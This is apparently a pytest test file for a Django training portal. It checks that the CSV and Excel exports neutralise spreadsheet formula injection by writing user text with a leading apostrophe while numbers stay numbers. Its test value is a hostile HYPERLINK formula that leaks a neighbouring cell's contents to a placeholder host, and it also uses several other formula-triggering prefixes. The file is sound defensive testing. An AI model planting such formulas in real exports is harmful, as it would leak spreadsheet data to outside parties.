"""No CSV or workbook cell written from user text starts a formula: each export, given the hostile
value an outside tester typed, writes it as text (a leading apostrophe), and numbers stay numbers."""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from alerts import links
from alerts.models import Alert
from charter_portal.spreadsheets import safe_cell
from paths.models import ProposalStatus
from reports import services
from reports.dataset import Period, Scope
from tests.factories import SignatureFactory, TraineeLinkFactory, complete_draft
from tests.reports.conftest import at, submitted_proposal

HOSTILE = '=HYPERLINK("http://x?leak="&A2,"x")'
NEUTRAL = "'" + HOSTILE
PERIOD = {"start": "2022-01-01", "end": "2022-06-30"}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HOSTILE, NEUTRAL),
        ("+33 6 12", "'+33 6 12"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Soudeur = métier", "Soudeur = métier"),
        (-160, -160),
        (12.5, 12.5),
        (datetime.date(2022, 1, 5), datetime.date(2022, 1, 5)),
        (None, None),
    ],
)
def test_the_helper_neutralises_text_only(value, written):
    assert safe_cell(value) == written


def _csv_rows(response):
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def _workbook(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(body))


def _no_formula_anywhere(workbook):
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_the_alert_queue_csv_writes_a_trainee_s_description_as_text(
    client, org_a, member_a, quality_officer, on_day
):
    """The description typed by an anonymous trainee through the shared link (C7)."""
    on_day(datetime.date(2022, 3, 15))
    link = TraineeLinkFactory(
        proposal=complete_draft(org_a, status=ProposalStatus.SUBMITTED), created_by=member_a
    )
    sent = client.post(
        reverse("alerts:trainee_alert", args=[links.make_token(link)]),
        {"category": "dropout_risk", "description": HOSTILE, "contact": ""},
    )
    assert sent.status_code == 302
    assert Alert.objects.get().description == HOSTILE  # stored as typed

    client.force_login(quality_officer)
    rows = _csv_rows(client.get(reverse("alerts:alert_export")))

    header, alert = rows[0], rows[1]
    assert alert[header.index("Description")] == NEUTRAL


def test_the_review_queue_csv_writes_a_target_job_as_text(client, org_a, path_analyst):
    complete_draft(org_a, status=ProposalStatus.SUBMITTED, target_job=HOSTILE)
    client.force_login(path_analyst)

    rows = _csv_rows(client.get(reverse("paths:proposal_queue_csv")))

    assert rows[1][rows[0].index("Métier visé")] == NEUTRAL


def test_the_directory_open_data_writes_a_name_as_text(client, edition, on_day):
    on_day(datetime.date(2022, 3, 15))
    SignatureFactory(
        organisation__legal_name=HOSTILE, edition=edition, signed_on=datetime.date(2021, 9, 1)
    )

    rows = _csv_rows(client.get(reverse("organisms:directory_csv")))

    assert rows[1][rows[0].index("legal_name")] == NEUTRAL
    # the JSON open data is not a spreadsheet: the name stays as registered
    assert client.get(reverse("organisms:directory_json")).json()["signatories"][0][
        "legal_name"
    ] == (HOSTILE)


@pytest.fixture
def hostile_a(org_a, signed_a):
    """A's name and one of its proposals' target job start a formula; PA costs 4,500.00 €."""
    type(org_a).objects.filter(pk=org_a.pk).update(legal_name=HOSTILE)
    org_a.refresh_from_db()
    proposal = submitted_proposal(org_a, at(2022, 1, 10), None, None, ["hybrid"])
    type(proposal).objects.filter(pk=proposal.pk).update(target_job=HOSTILE, pedagogic_cost_ht=4500)
    return org_a


def test_the_indicators_csv_and_workbook_write_user_text_as_text(
    client, hostile_a, quality_officer
):
    client.force_login(quality_officer)
    query = {"organisation": hostile_a.pk, **PERIOD}

    rows = _csv_rows(client.get("/api/v1/indicators/export.csv", query))
    assert rows[1][2] == NEUTRAL  # the scope: A's name
    assert ["proposals_submitted", rows[4][1], rows[4][2], "1"] == rows[4]

    workbook = _workbook(client.get("/api/v1/indicators/export.xlsx", query))
    _no_formula_anywhere(workbook)
    proposals = workbook["Propositions"]
    assert proposals["E2"].value == NEUTRAL  # Métier visé
    assert proposals["B2"].value == NEUTRAL  # Organisme
    assert proposals["M2"].value == 4500  # the cost stays a number
    assert workbook["Synthèse"]["B3"].value == NEUTRAL


@pytest.mark.parametrize("reader", ["quality_officer", "commission_member"])
def test_a_stored_review_workbook_and_csv_write_user_text_as_text(
    request, hostile_a, quality_officer, reader
):
    """Stored when made, served as stored (quality officer) or rewritten without alert data
    (commission): in both, text stays text."""
    review = services.generate_interim_review(
        Period(datetime.date(2022, 1, 1), datetime.date(2022, 6, 30)),
        Scope(hostile_a.pk),
        quality_officer,
    )
    client = Client()
    client.force_login(request.getfixturevalue(reader))

    workbook = _workbook(client.get(reverse("reports:review_workbook", args=[review.pk])))
    _no_formula_anywhere(workbook)
    assert workbook["Propositions"]["E2"].value == NEUTRAL
    assert workbook["Propositions"]["M2"].value == 4500
    rows = _csv_rows(client.get(reverse("reports:review_csv", args=[review.pk])))
    assert rows[1][2] == NEUTRAL
